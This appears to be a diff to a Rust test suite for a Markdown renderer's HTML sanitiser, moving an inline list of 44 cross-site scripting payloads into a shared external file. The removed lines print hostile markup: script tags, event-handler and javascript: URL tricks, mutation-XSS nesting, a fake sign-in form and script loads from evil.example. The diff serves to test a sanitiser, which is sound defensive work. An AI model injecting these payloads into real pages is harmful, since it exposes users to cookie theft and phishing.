@@ -43,53 +43,9 @@ fn carriers(url: &str) -> Vec<String> {
     ]
 }
 
-/// After OWASP's cheat sheet on filter evasion, and what is known of Markdown.
-const MARKUP: [&str; 44] = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
-    "<IMG SRC=\"javascript:alert('XSS');\">",
-    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
-    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
-    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
-    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
-    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
-    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
-    "<IMG onmouseover=\"alert('xxs')\">",
-    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
-    "<img src=x onerror=\"&#0000106&#0000097alert(1)\">",
-    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
-    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
-    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
-    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
-    "<IMG SRC=\"`('XSS')\"`",
-    "\\\";alert('XSS');//",
-    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
-    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
-    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
-    "<svg/onload=alert('XSS')>",
-    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
-    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
-    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
-    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
-    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
-    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
-    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
-    "<BASE HREF=\"javascript:alert('XSS');//\">",
-    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/x.html\"></OBJECT>",
-    "<a href=\"#\" style=\"position:fixed;inset:0\" class=\"overlay\" id=\"root\" data-action=\"x\">x</a>",
-    "<form action=\"https://evil.example\"><button>Sign in</button></form>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "[x](https://a.example\"onmouseover=\"alert(1))",
-    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
-    "![x\" onerror=\"alert(1)](https://a.example/b.png)",
-    "![x](https://a.example/b.png\"onerror=\"alert(1))",
-    "```\"><script>alert(1)</script>\nx\n```",
-    "```rust\"onload=\"alert(1)\n<script>alert(1)</script>\n```",
-    "`<script>alert(1)</script>`",
-    "||<script>alert(1)</script>||",
-    "| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |",
-];
+/// After OWASP's cheat sheet on filter evasion, and what is known of Markdown; a blank line between two.
+/// The browser tests send the same file.
+const MARKUP: &str = include_str!("hostile_markup.txt");
 
 /// Asserts that a text renders to what is allowed, by the strict reader and by ammonia alike.
 pub(super) fn is_safe(source: &str) {
@@ -126,7 +82,7 @@ fn outside_quotes(tag: &str) -> String {
 
 #[test]
 fn hostile_markup_is_shown_as_text() {
-    for markup in MARKUP {
+    for markup in MARKUP.trim_end().split("\n\n") {
         for context in [
             "{}",
             "> {}",
